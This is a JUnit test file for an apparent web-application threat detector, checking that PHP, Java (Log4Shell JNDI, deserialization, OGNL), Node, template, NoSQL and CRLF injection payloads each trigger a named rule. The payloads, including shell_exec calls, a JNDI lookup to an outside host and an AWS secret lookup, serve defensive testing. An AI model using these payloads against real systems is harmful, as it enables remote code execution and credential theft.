package dev.bulwark.dataplane.threat.injection;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** PHP, Java, Node, template and NoSQL injection: one case per class of attack with the rule that must name it. */
class CodeInjectionTest {

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            php-open-tag              | <?php echo shell_exec($_GET['c']); ?>
            php-open-tag              | <?= `id` ?>
            php-open-tag              | [php]phpinfo();[/php]
            php-wrapper               | php://filter/convert.base64-encode/resource=index.php
            php-wrapper               | expect://id
            php-wrapper               | phar://uploads/a.jpg/x
            php-wrapper               | data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==
            php-superglobal           | $_SERVER['HTTP_HOST']
            php-function-call         | base64_decode('aWQ=')
            php-function-call         | system('id');
            php-function-call         | shell_exec /* x */ ('id')
            php-variable-call         | $f='sys'.'tem';$f('id');
            php-variable-call         | ("sys"."tem")("id")
            php-variable-call         | $a['x']($b)
            php-serialized-object     | O:8:"stdClass":1:{s:1:"a";i:1;}
            php-config-directive      | allow_url_include=1
            php-config-directive      | -d auto_prepend_file=/tmp/upload.txt
            java-jndi-lookup          | ${jndi:ldap://203.0.113.9/a}
            java-jndi-lookup          | ${${lower:j}${lower:n}di:rmi://203.0.113.9/a}
            java-jndi-lookup          | ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}
            java-log4j-lookup         | ${env:AWS_SECRET_ACCESS_KEY}
            java-serialized-object    | rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==
            java-serialized-object    | aced00057372
            java-class-reference      | java.lang.Runtime
            java-class-reference      | javax.script.ScriptEngineManager
            java-class-reference      | org.apache.commons.collections.functors.InvokerTransformer
            java-deserialization-gadget | InvokerTransformer
            java-reflection           | class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
            java-reflection           | ''.getClass().forName('x')
            java-ognl-spel            | %{(#_memberAccess['allowStaticMethodAccess']=true)}
            java-ognl-spel            | (#context['xwork.MethodAccessor.denyMethodExecution']=false)
            node-prototype-pollution  | __proto__[isAdmin]=true
            node-prototype-pollution  | constructor.prototype.isAdmin
            node-process-access       | require('child_process').exec('id')
            node-process-access       | process.mainModule.require('fs')
            node-serialized-function  | {"rce":"_$$ND_FUNC$$_function(){}()"}
            node-infinite-loop        | while(!0){}
            node-infinite-loop        | for(;;);
            template-expression       | {{7*7}}
            template-expression       | {{''.__class__.__mro__}}
            template-expression       | ${7*7}
            template-expression       | #{7*7}
            template-expression       | <%= 7 * 7 %>
            template-statement        | {% import os %}
            template-statement        | <#assign x=7*7>
            template-perl-interpolation | @{[ system 'id' ]}
            template-ssi-directive    | <!--#exec cmd="id" -->
            nosql-operator            | {"$ne": null}
            nosql-operator            | {"$where": "sleep(1000)"}
            nosql-javascript          | ';return this.password.match(/^a/);var x='
            """)
    void codeInjection(String rule, String payload) {
        Detection detection = Inspect.query(payload);

        assertThat(detection).isNotNull();
        assertThat(detection.ruleId()).isEqualTo(rule);
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', textBlock = """
            nosql-operator             | user[$ne]=x
            nosql-orm-lookup           | owner__profile__email__startswith=a
            session-fixation-parameter | PHPSESSID=abc
            session-fixation-parameter | JSESSIONID=abc
            """)
    void inParameterNames(String rule, String query) {
        Detection detection = Inspect.DEFAULT.inspectHead("/", query, java.util.List.of(),
                dev.bulwark.dataplane.threat.injection.hint.TypeHints.NONE);

        assertThat(detection).isNotNull();
        assertThat(detection.ruleId()).isEqualTo(rule);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            protocol-header-injection      | x\\r\\nSet-Cookie: admin=1
            protocol-header-injection      | x\\r\\n\\r\\nHTTP/1.1 200 OK
            protocol-mail-command          | hello\\r\\nRCPT TO:<victim@example.com>
            protocol-mail-command          | x\\r\\nA001 LOGIN admin secret
            session-fixation-cookie-setter | <meta http-equiv="Set-Cookie" content="sid=1">
            session-fixation-cookie-setter | document.cookie="sid=attacker"
            """)
    void protocolAndSession(String rule, String payload) {
        Detection detection = Inspect.query(payload.replace("\\r", "\r").replace("\\n", "\n"));

        assertThat(detection).isNotNull();
        assertThat(detection.ruleId()).isEqualTo(rule);
    }
}
